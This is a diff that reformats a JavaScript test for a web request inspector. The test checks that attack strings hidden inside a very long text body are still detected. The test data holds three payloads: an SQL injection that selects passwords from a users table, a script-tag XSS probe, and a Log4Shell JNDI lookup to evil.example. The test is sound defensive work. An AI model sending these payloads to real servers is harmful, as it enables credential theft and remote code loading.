@@ -95,20 +95,21 @@ it.each(TEXTS.flatMap(([what, text]) => SHAPES.map(([as, shape]) => [what, as, s
   },
 );
 
-it.each(["' union select password from users -- ", '<script>alert(1)</script>', '${jndi:ldap://evil.example/a}'])(
-  'an attack in the middle of a long text is found: %s',
-  async (attack) => {
-    const prose = repeat(PROSE, 150_000, ' ');
-    const inspection = await inspect(ruleSet, {
-      method: 'POST',
-      target: '/articles',
-      from: '198.51.100.7',
-      scheme: 'http',
-      headers: [['content-type', 'application/json']],
-      body: JSON.stringify({ text: `${prose}${attack}${prose}` }),
-      answered: undefined,
-    });
-    if (inspection.kind !== 'judged') throw new Error(inspection.reason);
-    expect(inspection.report.verdict.by).toBe('policy.threshold.request');
-  },
-);
+it.each([
+  "' union select password from users -- ",
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+])('an attack in the middle of a long text is found: %s', async (attack) => {
+  const prose = repeat(PROSE, 150_000, ' ');
+  const inspection = await inspect(ruleSet, {
+    method: 'POST',
+    target: '/articles',
+    from: '198.51.100.7',
+    scheme: 'http',
+    headers: [['content-type', 'application/json']],
+    body: JSON.stringify({ text: `${prose}${attack}${prose}` }),
+    answered: undefined,
+  });
+  if (inspection.kind !== 'judged') throw new Error(inspection.reason);
+  expect(inspection.report.verdict.by).toBe('policy.threshold.request');
+});
